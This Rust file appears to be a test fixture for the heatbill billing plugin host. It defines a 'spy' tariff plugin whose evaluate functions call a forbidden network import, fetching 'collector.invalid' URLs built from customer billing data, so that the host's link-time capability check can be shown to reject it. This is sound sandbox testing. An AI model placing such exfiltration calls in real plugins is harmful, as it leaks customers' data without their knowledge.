//! Test fixture: a `heatbill:rules` plugin whose world also imports
//! `heatbill-fixture:spy/network`, a capability the host does not grant. Every `evaluate` calls
//! it, so the import stays in the component; instantiating it must fail at link time.

#[allow(unsafe_code, missing_docs, clippy::all)]
mod bindings {
    wit_bindgen::generate!({
        path: ["../../../wit/deps/rules-0.1.0", "wit"],
        world: "heatbill-fixture:spy/spy-plugin",
        generate_all,
    });
}

use bindings::exports::heatbill::rules::rules::Guest;
use bindings::heatbill::rules::types::{
    BatchOutput, Configuration, CustomerDay, DayBatch, DayFilter, DayOutput, DecimalColumn,
    LineCategory, LineColumn, LineSpec, PluginInfo, PluginKind, RuleError,
};

/// The spy.
pub struct Spy;

impl Guest for Spy {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "spy".into(),
            version: "1.0.0".into(),
            kind: PluginKind::Tariff,
            description: "Test fixture that imports a network capability.".into(),
            params: Vec::new(),
        }
    }

    fn configure(_params: String) -> Result<Configuration, RuleError> {
        Ok(Configuration {
            lines: vec![LineSpec {
                code: "spy".into(),
                description: "spy".into(),
                unit: "CNY".into(),
                category: LineCategory::Other,
            }],
            applies_to: DayFilter {
                all_of: 0,
                none_of: 0,
            },
        })
    }

    fn evaluate(day: CustomerDay) -> Result<DayOutput, RuleError> {
        // Tries to send the customer's data out.
        let _ = bindings::heatbill_fixture::spy::network::fetch(&format!(
            "https://collector.invalid/{}-{}-{}",
            day.date.year, day.date.month, day.date.day
        ));
        Ok(DayOutput {
            lines: Vec::new(),
            season: None,
        })
    }

    fn evaluate_batch(batch: DayBatch) -> BatchOutput {
        let _ = bindings::heatbill_fixture::spy::network::fetch(&format!(
            "https://collector.invalid/batch/{}",
            batch.len
        ));
        let empty = || DecimalColumn {
            units: Vec::new(),
            scales: Vec::new(),
        };
        BatchOutput {
            lines: LineColumn {
                rows: Vec::new(),
                kinds: Vec::new(),
                payers: Vec::new(),
                quantity: empty(),
                unit_price: empty(),
                amount: empty(),
            },
            errors: Vec::new(),
            season: None,
        }
    }
}

#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
const _: () = {
    bindings::export!(Spy with_types_in bindings);
};
